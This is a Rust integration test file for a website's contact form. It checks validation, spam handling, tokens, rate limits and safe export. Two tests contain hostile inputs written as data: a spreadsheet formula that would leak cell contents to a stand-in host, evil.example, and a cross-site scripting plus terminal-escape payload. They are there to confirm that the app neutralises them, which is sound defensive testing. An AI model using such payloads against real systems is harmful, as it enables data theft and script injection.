//! Contact Us over real HTTP against a real SQLite file.

use crate::helpers::*;
use zeroopposite::domain::MessageStatus;

async fn fresh_token(app: &TestApp) -> String {
    let (status, html) = app.get("/contact").await;
    assert_eq!(status, 200);
    token_of(&html)
}

async fn post(app: &TestApp, fields: &[(&str, &str)]) -> reqwest::Response {
    app.client.post(format!("{}/contact", app.base)).form(fields).send().await.unwrap()
}

async fn quick_app() -> TestApp {
    spawn_with(|c| c.contact.min_fill_secs = 0).await
}

#[tokio::test]
async fn a_valid_message_is_stored_then_the_reader_is_thanked() {
    let app = quick_app().await;
    let token = fresh_token(&app).await;
    let r = post(
        &app,
        &[
            ("token", &token),
            ("name", "Sam"),
            ("email", "sam@example.org"),
            ("kind", "question"),
            ("message", "How do I talk to my partner?"),
        ],
    )
    .await;
    assert_eq!(r.status().as_u16(), 303);
    assert_eq!(r.headers()["location"], "/contact/thanks");
    assert!(r.headers().get("set-cookie").is_none());
    let stored = app.store.messages(None).unwrap();
    assert_eq!(stored.len(), 1);
    assert_eq!(stored[0].body, "How do I talk to my partner?");
    assert_eq!(stored[0].status, MessageStatus::New);
    assert_eq!(stored[0].email.as_deref(), Some("sam@example.org"));
    assert!(!stored[0].ip_hash.contains("127.0.0.1") && stored[0].ip_hash.len() == 32);
    let (status, thanks) = app.get("/contact/thanks").await;
    assert_eq!(status, 200);
    assert!(thanks.contains("Thank you"));
}

#[tokio::test]
async fn each_invalid_field_reshows_the_form_with_the_text_kept() {
    let app = quick_app().await;
    let long_name = "n".repeat(201);
    let cases = [
        (
            "email",
            vec![("email", "not-an-address"), ("kind", "general"), ("message", "kept text 1")],
            "kept text 1",
        ),
        ("kind", vec![("email", ""), ("kind", "bogus"), ("message", "kept text 2")], "kept text 2"),
        ("message", vec![("email", ""), ("kind", "general"), ("message", "   ")], ""),
        (
            "name",
            vec![("name", long_name.as_str()), ("kind", "general"), ("message", "kept text 3")],
            "kept text 3",
        ),
    ];
    for (field, fields, kept) in cases {
        let token = fresh_token(&app).await;
        let mut fields = fields.clone();
        fields.push(("token", &token));
        let r = post(&app, &fields).await;
        assert_eq!(r.status().as_u16(), 422, "{field}");
        let html = r.text().await.unwrap();
        assert!(html.contains(&format!(r#"id="{field}-error""#)), "{field}: error next to the field");
        assert!(html.contains(&format!(r#"aria-describedby="{field}-error""#)) || field == "message");
        assert!(html.contains(kept), "{field}: text kept");
    }
    let long = "x".repeat(10_001);
    let token = fresh_token(&app).await;
    let r = post(&app, &[("token", &token), ("kind", "general"), ("message", &long)]).await;
    assert_eq!(r.status().as_u16(), 422);
    assert!(r.text().await.unwrap().contains("10001 characters"));
    assert!(app.store.messages(None).unwrap().is_empty(), "nothing stored");
}

#[tokio::test]
async fn the_honeypot_and_too_many_links_are_held_as_spam_not_dropped() {
    let app = quick_app().await;
    let token = fresh_token(&app).await;
    let r =
        post(&app, &[("token", &token), ("kind", "general"), ("message", "buy"), ("website", "http://spam")])
            .await;
    assert_eq!(r.status().as_u16(), 303, "bots are not told");
    let token = fresh_token(&app).await;
    let links = "http://a.example http://b.example http://c.example http://d.example";
    let r = post(&app, &[("token", &token), ("kind", "general"), ("message", links)]).await;
    assert_eq!(r.status().as_u16(), 303);
    let spam = app.store.messages(Some(MessageStatus::Spam)).unwrap();
    assert_eq!(spam.len(), 2);
    assert!(app.store.messages(Some(MessageStatus::New)).unwrap().is_empty());
}

#[tokio::test]
async fn too_fresh_expired_and_forged_tokens_are_each_handled() {
    let app = spawn_with(|c| c.contact.min_fill_secs = 30).await;
    let token = fresh_token(&app).await;
    let r = post(&app, &[("token", &token), ("kind", "general"), ("message", "too quick")]).await;
    assert_eq!(r.status().as_u16(), 303);
    let spam = app.store.messages(Some(MessageStatus::Spam)).unwrap();
    assert_eq!(spam.len(), 1, "a too-fresh form is held as spam");
    assert!(spam[0].spam_reason.as_deref().unwrap().contains("after the form was served"));

    let old = app.app.contact_token(time::OffsetDateTime::now_utc() - time::Duration::days(3));
    let r = post(&app, &[("token", &old), ("kind", "general"), ("message", "expired text")]).await;
    assert_eq!(r.status().as_u16(), 422);
    let html = r.text().await.unwrap();
    assert!(html.contains("expired") && html.contains("expired text"));

    let r = post(
        &app,
        &[
            ("token", "123.00000000000000000000000000000000.deadbeef"),
            ("kind", "general"),
            ("message", "forged text"),
        ],
    )
    .await;
    assert_eq!(r.status().as_u16(), 422);
    let html = r.text().await.unwrap();
    assert!(html.contains("could not be verified") && html.contains("forged text"));
    assert_eq!(app.store.messages(None).unwrap().len(), 1);
}

#[tokio::test]
async fn a_resent_form_is_stored_once() {
    let app = quick_app().await;
    let token = fresh_token(&app).await;
    for _ in 0..2 {
        let r = post(&app, &[("token", &token), ("kind", "general"), ("message", "once")]).await;
        assert_eq!(r.status().as_u16(), 303);
    }
    assert_eq!(app.store.messages(None).unwrap().len(), 1);
}

#[tokio::test]
async fn the_rate_limit_answers_429_with_retry_after() {
    let app = spawn_with(|c| {
        c.contact.min_fill_secs = 0;
        c.contact.per_ip_per_hour = std::num::NonZeroU32::new(2).unwrap();
    })
    .await;
    for i in 0..2 {
        let token = fresh_token(&app).await;
        let r = post(&app, &[("token", &token), ("kind", "general"), ("message", &format!("m{i}"))]).await;
        assert_eq!(r.status().as_u16(), 303);
    }
    let token = fresh_token(&app).await;
    let r = post(&app, &[("token", &token), ("kind", "general"), ("message", "third text")]).await;
    assert_eq!(r.status().as_u16(), 429);
    let wait: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!(wait > 60, "{wait}");
    assert!(r.text().await.unwrap().contains("third text"));
}

#[tokio::test]
async fn junk_posts_without_a_token_do_not_use_up_a_readers_quota() {
    let app = spawn_with(|c| {
        c.contact.min_fill_secs = 0;
        c.contact.per_ip_per_hour = std::num::NonZeroU32::new(2).unwrap();
    })
    .await;
    for _ in 0..10 {
        let r = post(&app, &[("token", "junk"), ("kind", "general"), ("message", "spam")]).await;
        assert_eq!(r.status().as_u16(), 422, "a forged token is refused, not counted");
    }
    for i in 0..2 {
        let token = fresh_token(&app).await;
        let r =
            post(&app, &[("token", &token), ("kind", "general"), ("message", &format!("real {i}"))]).await;
        assert_eq!(r.status().as_u16(), 303, "the reader still has the whole quota");
    }
    let token = fresh_token(&app).await;
    let r = post(&app, &[("token", &token), ("kind", "general"), ("message", "third")]).await;
    assert_eq!(r.status().as_u16(), 429, "and the quota still holds for real forms");
}

#[tokio::test]
async fn an_oversize_body_gets_the_413_page() {
    let app = quick_app().await;
    let big = "a".repeat(300 * 1024);
    let r = post(&app, &[("kind", "general"), ("message", &big)]).await;
    assert_eq!(r.status().as_u16(), 413);
    assert!(r.text().await.unwrap().contains("too much to send"));
    let mid = "a".repeat(170 * 1024);
    let r = post(&app, &[("kind", "general"), ("message", &mid)]).await;
    assert_eq!(r.status().as_u16(), 413);
}

#[tokio::test]
async fn a_locked_database_gets_503_with_the_text_kept_and_no_false_thanks() {
    if on_postgres() {
        return; // SQLite's own lock; PostgreSQL going away mid-burst is tested in `instances`
    }
    let app = quick_app().await;
    let token = fresh_token(&app).await;
    let db = app.dir.path().join("zeroopposite.db");
    let lock = rusqlite::Connection::open(&db).unwrap();
    lock.execute_batch("BEGIN IMMEDIATE").unwrap();
    let r = post(&app, &[("token", &token), ("kind", "general"), ("message", "please keep me")]).await;
    assert_eq!(r.status().as_u16(), 503);
    let html = r.text().await.unwrap();
    assert!(html.contains("please keep me") && html.contains("not been sent"));
    lock.execute_batch("ROLLBACK").unwrap();
    assert!(app.store.messages(None).unwrap().is_empty());
}

#[tokio::test]
async fn a_csv_export_never_turns_a_readers_words_into_a_formula() {
    let app = quick_app().await;
    let token = fresh_token(&app).await;
    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
    let r = post(&app, &[("token", &token), ("name", "@SUM(1)"), ("kind", "general"), ("message", formula)])
        .await;
    assert_eq!(r.status().as_u16(), 303);

    let (ok, out, err) =
        run_cli(&["--data", app.dir.path().to_str().unwrap(), "messages", "export", "--format", "csv"]);

    assert!(ok, "{err}");
    let mut rows = csv::Reader::from_reader(out.as_bytes());
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[4], "'@SUM(1)");
    assert_eq!(&row[6], format!("'{formula}"));
    assert_eq!(app.store.messages(None).unwrap()[0].body, formula, "the store keeps the words as sent");
}

#[tokio::test]
async fn payloads_are_stored_as_sent_and_shown_escaped() {
    let app = quick_app().await;
    let payload = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{7*7}}\u{1b}[2J";
    let token = fresh_token(&app).await;
    let r = post(&app, &[("token", &token), ("name", payload), ("kind", "correction"), ("message", payload)])
        .await;
    assert_eq!(r.status().as_u16(), 303);
    let stored = &app.store.messages(None).unwrap()[0];
    assert_eq!(stored.body, payload, "stored exactly as sent");
    assert_eq!(stored.name.as_deref(), Some(payload));

    let (ok, out, err) =
        run_cli(&["--data", app.dir.path().to_str().unwrap(), "messages", "show", &stored.id.to_string()]);
    assert!(ok, "{err}");
    assert!(!out.contains('\u{1b}'), "no raw terminal escape");
    assert!(out.contains("\\u{1b}[2J"));
    assert!(out.contains("<script>alert(1)</script>"));

    let (ok, out, _) =
        run_cli(&["--data", app.dir.path().to_str().unwrap(), "messages", "export", "--format", "json"]);
    assert!(ok);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v[0]["body"], payload);
    let (ok, out, _) =
        run_cli(&["--data", app.dir.path().to_str().unwrap(), "messages", "export", "--format", "csv"]);
    assert!(ok);
    assert!(out.starts_with("id,received_at,kind,status,name,email,body,spam_reason"));

    // Re-shown form escapes the same payload.
    let r = post(&app, &[("token", "forged"), ("name", payload), ("kind", "general"), ("message", payload)])
        .await;
    let html = r.text().await.unwrap();
    assert!(!html.contains("<script>alert(1)"));
    assert!(!html.contains("<img src=x"));
}
